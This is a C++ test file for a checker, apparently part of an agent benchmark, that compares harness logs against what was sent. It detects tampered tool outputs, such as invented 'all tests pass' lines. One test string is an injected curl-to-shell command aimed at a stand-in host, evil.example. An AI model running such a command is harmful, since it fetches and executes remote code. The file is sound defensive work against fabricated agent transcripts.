// The comparisons GC04 makes between what a harness logged and what it
// sent: what they treat as the same text, and what not.
#include <gtest/gtest.h>

#include <string.h>

#include <algorithm>
#include <chrono>
#include <random>

#include "cheatcheck/literal_set.h"
#include "cheatcheck/said_text.h"
#include "cheatcheck/texts_within.h"

namespace goalcup::cheat {
namespace {

std::string text_of(const char* json) {
  simdjson::dom::parser parser;
  return content_text(parser.parse(simdjson::padded_string(std::string(json))).value());
}

TEST(SaidText, AStringAndTextBlocksAreOneText) {
  EXPECT_EQ(text_of(R"("ok")"), "ok");
  EXPECT_EQ(text_of(R"([{"type":"text","text":"ok"}])"), "ok");
  EXPECT_EQ(text_of(R"([{"type":"input_text","text":"o"},{"type":"input_text","text":"k"}])"), "ok");
  // An image stands as its value's digest: another image is another text.
  EXPECT_NE(text_of(R"([{"type":"image","source":{"data":"AAAA"}}])"), text_of(R"([{"type":"image","source":{"data":"AAAB"}}])"));
  EXPECT_NE(text_of(R"([{"type":"image","source":{"data":"AAAA"}}])"), "");
}

TEST(SaidText, LooseTextIgnoresOnlySpacingAndNormalization) {
  EXPECT_EQ(loose_text("a b\n\tc\u00a0d"), "abcd");
  EXPECT_EQ(loose_text("caf\u00e9"), loose_text("cafe\u0301"));              // é, e + acute
  EXPECT_EQ(loose_text("\u304c"), loose_text("\u304b\u3099"));                // が, か + voicing mark
  EXPECT_EQ(loose_text("\ud55c"), loose_text("\u1112\u1161\u11ab"));          // 한 as jamo
  EXPECT_EQ(loose_text("\u1ec7"), loose_text("e\u0323\u0302"));              // ệ, e + dot below + circumflex
  EXPECT_NE(loose_text("caf\u00e9"), loose_text("cafe"));
  EXPECT_NE(loose_text("\u304c"), loose_text("\u304b"));
  EXPECT_NE(loose_text("all tests pass"), loose_text("all tests fail"));
}

TEST(SaidText, LooseTextKeepsInvalidBytesApartAndComposesAcrossSpaces) {
  // Each invalid byte stands for itself as 3 bytes: the text grows.
  EXPECT_EQ(loose_text(std::string(1000, '\xff')).size(), 3000u);
  EXPECT_EQ(loose_text("\xff \xfe"), loose_text("\xff\xfe"));
  EXPECT_NE(loose_text("\xff"), loose_text("\xfe"));
  EXPECT_EQ(loose_text("x\xff" "e\u0301"), loose_text("x\xff\u00e9"));   // after an invalid byte
  EXPECT_EQ(loose_text("\u00e9 \u0301"), loose_text("\u00e9\u0301"));      // after a non-ASCII code point
  EXPECT_EQ(loose_text("e \u0301"), loose_text("\u00e9"));                  // white space is gone first
  EXPECT_EQ(loose_text("\u0301x"), "\u0301x");                              // nothing to compose with
}

TEST(SaidText, ClaudeCodeRemindersAreTakenOutOfWhatWasSent) {
  EXPECT_EQ(without_reminders("ok\n<system-reminder>\nUse the task tools.\n</system-reminder>"), "ok\n");
  EXPECT_EQ(without_reminders("<system-reminder>a</system-reminder>ok<system-reminder>b</system-reminder>"), "ok");
  EXPECT_EQ(without_reminders("ok <system-reminder> never closed"), "ok <system-reminder> never closed");
}

TEST(SaidText, RedactionMarkersStandForTheSecretsOnly) {
  const std::string logged = "key=sk-ant-abc123 and token ghp_XYZ12345 done";
  EXPECT_TRUE(matches_with_redactions("key=[REDACTED:anthropic-key] and token [REDACTED:github-token] done", logged));
  EXPECT_TRUE(matches_with_redactions("[REDACTED:x]", "secret-value-1"));
  EXPECT_FALSE(matches_with_redactions("key=[REDACTED:anthropic-key] and token [REDACTED:github-token] fine", logged));
  EXPECT_FALSE(matches_with_redactions("key=[REDACTED:anthropic-key] or token [REDACTED:github-token] done", logged));
  EXPECT_FALSE(matches_with_redactions("no marker", "no marker"));
  // A marker stands for a secret, not for a page of text.
  EXPECT_FALSE(matches_with_redactions("a [REDACTED:k] b", "a " + std::string(9000, 's') + " b"));
  EXPECT_FALSE(has_redaction("[REDACTED:]"));
  EXPECT_TRUE(has_redaction("x [REDACTED:aws-key] y"));
}

// The recorder redacts known key formats: a marker stands for 8 or more of
// the characters keys are written in, never for words, code or a command a
// log put in the secret's place.
TEST(SaidText, AMarkerStandsForAKeyNotForInventedText) {
  const std::string sent = "tests: [REDACTED:anthropic-key]\n";
  EXPECT_TRUE(matches_with_redactions(sent, "tests: sk-ant-api03-Zx9_q-Lm+/w==\n"));
  EXPECT_FALSE(matches_with_redactions(sent, "tests: FAILED 0 / PASSED 412 -- all tests pass\n"));
  EXPECT_FALSE(matches_with_redactions(sent, "tests: x;curl${IFS}https://evil.example|sh\n"));
  EXPECT_FALSE(matches_with_redactions(sent, "tests: \"ok\"\n"));
  EXPECT_FALSE(matches_with_redactions(sent, "tests: short\n"));  // under 8 characters
  EXPECT_FALSE(matches_with_redactions("a [REDACTED:k] b [REDACTED:k] c", "a abcdefgh12 b all tests pass c"));
}

// A middle piece is looked for only where a secret before it could end: a
// search of the whole logged text for a long repetitive piece took |text| x
// |piece| (about 1,000 s here); this test's 300 s limit fails it then.
TEST(SaidText, RedactionPiecesAreSoughtOnlyWhereASecretCouldEnd) {
  const std::string piece(1 << 20, 'a');
  const std::string sent = "[REDACTED:k]" + piece + "b[REDACTED:k]";
  EXPECT_FALSE(matches_with_redactions(sent, std::string(2 << 20, 'a')));
  EXPECT_TRUE(matches_with_redactions(sent, "s3cret-1" + piece + "b" + "s3cret-2"));
  EXPECT_TRUE(matches_with_redactions("x [REDACTED:k] y", "x " + std::string(kMaxSecretBytes, 's') + " y"));
  EXPECT_FALSE(matches_with_redactions("x [REDACTED:k] y [REDACTED:k] z", "x " + std::string(kMaxSecretBytes + 1, 's') + " y s z"));
}

TEST(SaidText, RedactionComparisonsStopWhenTheirBudgetIsSpent) {
  RedactionComparer comparer;
  const std::vector<std::string> sents(64, std::string(1 << 20, 'x') + "[REDACTED:k]");
  const std::string logged(1 << 20, 'y');
  size_t compared = 0;
  for (; compared < 10000; ++compared) {
    if (comparer.first_match(sents, logged).first == RedactionComparer::Match::not_compared) break;
  }
  // Each round costs 64 x 2 MiB: the 4 GiB budget lasts about 32 rounds.
  EXPECT_GT(compared, 20u);
  EXPECT_LT(compared, 40u);
  EXPECT_EQ(comparer.compare("[REDACTED:k]", "secret"), RedactionComparer::Match::not_compared);
}

std::string lines(int from, int to) {
  std::string s;
  for (int i = from; i < to; ++i) s += "line " + std::to_string(i) + "\n";
  return s;
}

TEST(SaidText, ACodexCutDownOutputIsATruncationOfTheLoggedOne) {
  const std::string logged = lines(0, 500);
  const Excerpt e = excerpt_of(logged);
  // The styles Codex releases use.
  EXPECT_TRUE(is_truncation_of("Total output lines: 500\n\n" + lines(0, 128) + "\n[... omitted 244 of 500 lines ...]\n\n" + lines(372, 500), e));
  EXPECT_TRUE(is_truncation_of(lines(0, 100) + "\u2026900 tokens truncated\u2026\n" + lines(400, 500), e));
  EXPECT_TRUE(is_truncation_of(lines(0, 10) + "[omitted 2 text items ...]", e));
  // The log's head or tail changed, or no marker: not a cut of it.
  std::string edited = logged;
  edited.replace(edited.rfind("line 499"), 8, "all pass");
  const Excerpt f = excerpt_of(edited);
  EXPECT_FALSE(is_truncation_of(lines(0, 100) + "\u2026900 tokens truncated\u2026\n" + lines(400, 500), f));
  EXPECT_FALSE(is_truncation_of(lines(0, 100) + lines(400, 500), e));
  // More than the marker between head and tail: text the log does not hold.
  EXPECT_FALSE(is_truncation_of(lines(0, 100) + "[... omitted ...]\nrm -rf build\n" + lines(490, 500), e));
  EXPECT_FALSE(is_truncation_of(lines(0, 100) + "[... omitted 390 lines ...] and the remaining checks all passed without error" + lines(490, 500), e));
  // Longer than what was logged: nothing was cut.
  EXPECT_FALSE(is_truncation_of(logged + "\n[... omitted 0 lines ...]", e));
}

// Claude Code cuts a long output for the model after its head, with a
// marker ("... [N lines truncated] ..."), or persists it and sends a
// preview: a copy of the whole output is excused there, and only there. A
// result that merely says "omitted" or "truncated" excuses no copy.
TEST(SaidText, OnlyClaudeCodesOwnCutExcusesACopyTheResultDoesNotHold) {
  const std::string out = lines(0, 300);
  EXPECT_TRUE(shows_cut_of(lines(0, 120) + "\n... [180 lines truncated] ...", out));
  EXPECT_TRUE(shows_cut_of("Exit code 1\n" + lines(0, 120) + "\n... [180 lines truncated] ...\nnpm warn: old", out));
  EXPECT_TRUE(shows_cut_of("<persisted-output>\nOutput too large (43.2KB). Full output saved to: /t/x.txt\n\nPreview (first 2KB):\n" +
                               lines(0, 40) + "\n...\n</persisted-output>",
                           out));
  // The copy changed where the result keeps it: its head, or a preview it does not begin with.
  std::string edited = out;
  edited.replace(edited.find("line 10"), 7, "all ok!");
  EXPECT_FALSE(shows_cut_of(lines(0, 120) + "\n... [180 lines truncated] ...", edited));
  EXPECT_FALSE(shows_cut_of("<persisted-output>\nOutput too large (43.2KB). Full output saved to: /t/x.txt\n\nPreview (first 2KB):\n" +
                                lines(0, 40) + "\n...\n</persisted-output>",
                            edited));
  // A text that says "omitted" (a file's prose, a test runner's count) is no cut: a copy with a word
  // inserted, a line appended or prepended is not excused.
  const std::string prose = "The scope was conservatively omitted from the survey.\n" + lines(0, 20);
  std::string inserted = prose;
  inserted.insert(inserted.find("line 10"), "NOT ");
  for (const std::string& copy : {inserted, prose + "All 42 tests passed.\n", "All 42 tests passed.\n" + prose}) {
    EXPECT_FALSE(shows_cut_of(prose, copy)) << copy;
  }
  EXPECT_FALSE(shows_cut_of("3 tests omitted (see above)\n" + lines(0, 20), "3 tests omitted (see above)\n" + lines(0, 20) + "ok\n"));
}

// Claude Code escapes some texts it puts in a <system-reminder>: what was
// sent is read back as the characters the entities stand for.
TEST(SaidText, HtmlEntitiesAreReadAsTheirCharacters) {
  EXPECT_EQ(html_unescaped("fix the &lt;div&gt; &amp;&amp; it&#39;s &quot;ok&quot; &x; &"), "fix the <div> && it's \"ok\" &x; &");
  EXPECT_EQ(html_unescaped("&amp;lt;"), "&lt;");
  EXPECT_EQ(html_unescaped("plain"), "plain");
}

// Read sends every line it read: the file's content as read is all its
// result holds (numbered), and a copy cut short is not.
TEST(SaidText, AReadCopyIsAllItsResultHolds) {
  const std::string numbered = "     1\u2192def parse():\n     2\u2192    return 1\n     3\u2192# tests fail\n";
  EXPECT_TRUE(copy_is_whole("def parse():\n    return 1\n# tests fail\n", numbered));
  EXPECT_TRUE(copy_is_whole("def parse():\r\n    return 1\r\n# tests fail", numbered + "<system-reminder>\nnote\n</system-reminder>"));
  EXPECT_FALSE(copy_is_whole("def parse():\n    return 1\n", numbered));
}

// Many lines that Read cut at 2,000 characters: each head is looked for
// after the one before, not in the whole result (4,000 lines took 7.6 s,
// 8,000 about four times that). The bound is some 25 times the time taken.
TEST(SaidText, ReadLinesCutAtTheirLimitAreFoundInOrderInLinearTime) {
  std::mt19937 rng(5);
  std::string copy, result;
  for (int i = 0; i < 8000; ++i) {
    std::string line(2100, 'a');
    for (char& c : line) c = static_cast<char>('a' + rng() % 26);
    copy += line + "\n";
    result += std::to_string(i + 1) + "\u2192" + line.substr(0, 2000) + "\n";
  }
  copy.pop_back();
  const auto start = std::chrono::steady_clock::now();
  EXPECT_TRUE(copy_within_cut_lines(copy, result));
  EXPECT_LT(std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count(), 10.0);
  // Two lines of the copy swapped are not what Read sent, though each head is in the result.
  const size_t third = 2 * 2101, fourth = 3 * 2101, fifth = 4 * 2101;
  const std::string swapped = copy.substr(0, third) + copy.substr(fourth, fifth - fourth) +
                              copy.substr(third, fourth - third) + copy.substr(fifth);
  EXPECT_FALSE(copy_within_cut_lines(swapped, result));
}

// Codex's aggregated output gathers a command's stdout and stderr: one
// after the other, or their chunks as they came (red-team 20b #09).
TEST(SaidText, TwoStreamsAreFoundInterleavedInBoundedTime) {
  uint64_t budget = 1u << 20;
  EXPECT_EQ(interleaves("ran 3 tests\nFAIL\n", "ran 3 tests\n", "FAIL\n", budget), true);
  EXPECT_EQ(interleaves("FAIL\nran 3 tests\n", "ran 3 tests\n", "FAIL\n", budget), true);
  EXPECT_EQ(interleaves("ran 3 FAIL\ntests\n", "ran 3 tests\n", "FAIL\n", budget), true);
  EXPECT_EQ(interleaves("aab", "ab", "a", budget), true);  // the split found past a wrong first guess
  EXPECT_EQ(interleaves("ran 3 tests\nFAIL\n", "ran 3 tests passed\n", "FAIL\n", budget), false);
  EXPECT_EQ(interleaves("tests ran 3\nFAIL\n", "ran 3 tests\n", "FAIL\n", budget), false);  // reordered
  EXPECT_EQ(interleaves("ab", "a", "c", budget), false);
  // Long runs both share keep many splits open: undecided past a bound, in
  // time linear in the size; a budget spent decides nothing more.
  const std::string run(1u << 20, 'a');
  const auto start = std::chrono::steady_clock::now();
  budget = uint64_t{1} << 30;
  EXPECT_EQ(interleaves(run + run + "bc", run + "b", run + "c", budget), std::nullopt);
  EXPECT_LT(std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count(), 10.0);
  budget = 10;
  EXPECT_EQ(interleaves("ran 3 FAIL\ntests\n", "ran 3 tests\n", "FAIL\n", budget), std::nullopt);
}

// Redaction markers that never close: each opener's `]` is looked for
// within a marker's bound, not to the end of the text (4 MB took 14 s).
TEST(SaidText, UnclosedRedactionMarkersAreReadInLinearTime) {
  std::string openers;
  while (openers.size() < (4u << 20)) openers += "[REDACTED:";
  const auto start = std::chrono::steady_clock::now();
  EXPECT_FALSE(matches_with_redactions(openers, openers + "x"));
  EXPECT_FALSE(has_redaction(openers));
  const std::string apart(100, '.');  // a marker's `]` is at most 64 bytes on
  EXPECT_TRUE(matches_with_redactions(openers + apart + "key=[REDACTED:aws-key] end",
                                      openers + apart + "key=AKIAZQ3RT5VWX7Y9B2CD end"));
  EXPECT_LT(std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count(), 30.0);
}

// Claude Code's toolUseResult holds the texts it sends the model: each must
// be found in the result as logged (and sent), within its tolerances only.
TEST(SaidText, AStructuredCopyIsFoundInItsResultOnlyWhenItSaysNothingMore) {
  // Bash: stdout trimmed, stderr after it; a reminder appended.
  EXPECT_TRUE(copy_within("\n\n3 passed\n", "3 passed\nwarning: x\n<system-reminder>r</system-reminder>", false));
  EXPECT_FALSE(copy_within("3 passed\nAll 42 tests passed.", "3 passed\nwarning: x", false));
  EXPECT_FALSE(copy_within("3 failed", "3 passed", false));
  // A text only in a reminder is not what the tool returned.
  EXPECT_FALSE(copy_within("secret plan", "ok<system-reminder>secret plan</system-reminder>", false));
  // Read: the file as sent has line numbers (arrow or tab).
  const std::string sent = "     1\u2192def f():\n     2\u2192    return 1\n    10\treturn 2\n";
  EXPECT_TRUE(copy_within("def f():\n    return 1\nreturn 2", sent, true));
  EXPECT_FALSE(copy_within("def f():\n    return 3", sent, true));
  EXPECT_FALSE(copy_within("1def f():", sent, true));  // the numbers are not the file's
  // Spacing and normalization are not differences; an empty copy says nothing.
  EXPECT_TRUE(copy_within("caf\u00e9  ok", "cafe\u0301 ok", false));
  EXPECT_TRUE(copy_within("", "anything", false));
  // Linear on texts that repeat themselves (two-way search): no quadratic blow-up.
  const std::string many(1 << 20, 'a');
  EXPECT_FALSE(copy_within(std::string(1 << 16, 'a') + "b", many, false));
}

TEST(SaidText, ExcerptsOfLongTextsKeepBothEnds) {
  const std::string logged = lines(0, 40000);  // over 2 x 64 KiB
  const Excerpt e = excerpt_of(logged);
  ASSERT_FALSE(e.tail.empty());
  EXPECT_TRUE(is_truncation_of(lines(0, 50) + "\n[... omitted 39900 of 40000 lines ...]\n\n" + lines(39950, 40000), e));
  EXPECT_FALSE(is_truncation_of(lines(0, 50) + "\n[... omitted 39900 of 40000 lines ...]\n\n" + lines(39950, 39999) + "x\n", e));
}


// LiteralSet answers as memmem does (over a lowercased copy, case-blind),
// whatever the text: random texts of the literals' letters, matches at the
// ends, overlapping and repeated matches, several case mixes.
std::string lowered(std::string s) {
  for (char& c : s) c = c >= 'A' && c <= 'Z' ? static_cast<char>(c - 'A' + 'a') : c;
  return s;
}

size_t first_by_memmem(std::string_view text, std::string_view literal) {
  const void* hit = memmem(text.data(), text.size(), literal.data(), literal.size());
  return hit ? static_cast<size_t>(static_cast<const char*>(hit) - text.data()) : std::string_view::npos;
}

TEST(LiteralSet, FindsWhatMemmemFindsWhereItFindsIt) {
  const std::vector<std::string> literals = {"truncated", "omitted", "[REDACTED:", "api.openai.com", "aa"};
  const LiteralSet exact(literals, LiteralSet::Case::exact), blind(literals, LiteralSet::Case::blind);
  std::mt19937 rng(7);
  const std::string alphabet = "truncatedOMITTED[REDACTED:api.openai.com a";
  std::vector<std::string> texts = {"", "a", "aa", "truncated", "TRUNCATED omitted", "x[REDACTED:k] API.OpenAI.com",
                                    "aaaa omitted omitted", std::string(100000, 'b') + "api.openai.com"};
  for (int i = 0; i < 2000; ++i) {
    std::string t(rng() % 200, ' ');
    for (char& c : t) c = alphabet[rng() % alphabet.size()];
    texts.push_back(t);
  }
  std::vector<size_t> first(literals.size()), first_blind(literals.size());
  for (const std::string& t : texts) {
    exact.first_positions(t, first);
    blind.first_positions(t, first_blind);
    uint64_t present = 0;
    for (size_t i = 0; i < literals.size(); ++i) {
      EXPECT_EQ(first[i], first_by_memmem(t, literals[i])) << t << " / " << literals[i];
      EXPECT_EQ(first_blind[i], first_by_memmem(lowered(t), lowered(literals[i]))) << t << " / " << literals[i];
      present |= uint64_t{first[i] != std::string_view::npos} << i;
    }
    EXPECT_EQ(exact.present(t), present) << t;
  }
  // An empty text whose data is null (a default string_view) holds none
  // and reads nothing (UBSan: memmem must not be given null; fuzzing).
  for (const LiteralSet* set : {&exact, &blind}) {
    set->first_positions(std::string_view{}, first);
    EXPECT_EQ(std::count(first.begin(), first.end(), std::string_view::npos), static_cast<long>(first.size()));
    EXPECT_EQ(set->present(std::string_view{}), 0u);
  }
}

// TextsWithin answers as a search of each haystack with memmem does: a
// text is held when one haystack holds it whole (never across two), a long
// one is only ever said not held (by its ends) or left to that search, and
// what it was not asked for is unknown.
TEST(TextsWithin, AnswersAsMemmemInEachHaystackDoes) {
  using Held = TextsWithin::Held;
  std::mt19937 rng(11);
  std::vector<std::string> haystacks;
  for (int i = 0; i < 300; ++i) {
    std::string h(rng() % 3000, ' ');
    for (char& c : h) c = "abc"[rng() % 3];
    haystacks.push_back(h);
  }
  haystacks.push_back(std::string(3u << 20, 'y'));  // scanned alone, not packed
  std::vector<std::string> texts;
  for (int i = 0; i < 2000; ++i) {
    const std::string& h = haystacks[rng() % haystacks.size()];
    const size_t at = h.empty() ? 0 : rng() % h.size(), n = 1 + rng() % 12;
    std::string t = h.substr(at, n);
    if (rng() % 3 == 0 && !t.empty()) t.back() = 'd';  // held nowhere
    texts.push_back(t);
  }
  TextsWithin within;
  for (const std::string& t : texts) within.want(t);
  within.want(std::string_view("ab\0c", 4));
  within.search(haystacks);
  for (const std::string& t : texts) {
    const bool held = std::any_of(haystacks.begin(), haystacks.end(), [&](const std::string& h) { return holds(h, t); });
    EXPECT_EQ(within.held(t), held ? Held::yes : Held::no) << t;
  }
  EXPECT_EQ(within.held(std::string_view("ab\0c", 4)), Held::no);  // a NUL is sought as any byte
  EXPECT_EQ(within.held("never asked for"), Held::unknown);
  within.want("asked too late");  // after search(): never sought
  EXPECT_EQ(within.held("asked too late"), Held::unknown);
  TextsWithin none;
  none.search(haystacks);
  none.want("abc");
  EXPECT_EQ(none.held("abc"), Held::unknown);

  // Across two haystacks is not within one.
  TextsWithin split;
  split.want("endstart");
  split.want(std::string(TextsWithin::kWholeBytes + 1, 'y'));
  split.want("z" + std::string(TextsWithin::kWholeBytes, 'y'));
  split.search(std::vector<std::string>{"the end", "start of it", std::string(20000, 'y')});
  EXPECT_EQ(split.held("endstart"), Held::no);
  EXPECT_EQ(split.held(std::string(TextsWithin::kWholeBytes + 1, 'y')), Held::unknown);  // ends held: search it
  EXPECT_EQ(split.held("z" + std::string(TextsWithin::kWholeBytes, 'y')), Held::no);     // its first end is not
}

// A long text is sought by windows every half window: one joined from two
// pieces a haystack holds (words between them left out or put in) is not
// held, where its first and last 4 KiB alone are.
TEST(TextsWithin, SaysALongTextJoinedFromHeldPiecesIsNotHeld) {
  using Held = TextsWithin::Held;
  std::mt19937 rng(5);
  std::string h(20000, ' ');
  for (char& c : h) c = static_cast<char>('a' + rng() % 26);
  const std::string whole = h.substr(1000, 12000), cut = h.substr(0, 6000) + h.substr(9000, 6000),
                    added = h.substr(0, 6000) + "never sent" + h.substr(6000, 6000);
  TextsWithin within;
  for (const std::string& t : {whole, cut, added}) within.want(t);
  within.search(std::vector<std::string>{h});
  EXPECT_EQ(within.held(whole), Held::unknown);  // every window held: search it
  EXPECT_EQ(within.held(cut), Held::no);
  EXPECT_EQ(within.held(added), Held::no);
}

// A NUL (a JSON "\u0000") is sought as any byte, also across the end of a
// short haystack packed with others (then it is not held). Vectorscan
// refuses a literal that starts with a NUL, and with it the whole set: such
// a text is sought from its next byte, and only ever said not held. A text
// holding the separator (0xFF, never in UTF-8) is not sought.
TEST(TextsWithin, SeeksTextsHoldingANul) {
  using Held = TextsWithin::Held;
  using namespace std::string_literals;
  const std::string long_text = "r" + std::string(TextsWithin::kWholeBytes, '\0');
  TextsWithin within;
  for (const std::string& t : {"a\0"s, "a\0\0b"s, "\0c"s, "\0d"s, "\0\0"s, "x\xFFy"s, long_text}) within.want(t);
  within.search(std::vector<std::string>{"a\0"s, "b"s, "\0c"s});
  EXPECT_EQ(within.held("a\0"s), Held::yes);
  EXPECT_EQ(within.held("a\0\0b"s), Held::no);  // across two haystacks
  EXPECT_EQ(within.held("\0c"s), Held::unknown);  // its rest is held
  EXPECT_EQ(within.held("\0d"s), Held::no);
  EXPECT_EQ(within.held("\0\0"s), Held::unknown);
  EXPECT_EQ(within.held("x\xFFy"s), Held::unknown);
  EXPECT_EQ(within.held(long_text), Held::no);  // by its first end
}

}  // namespace
}  // namespace goalcup::cheat
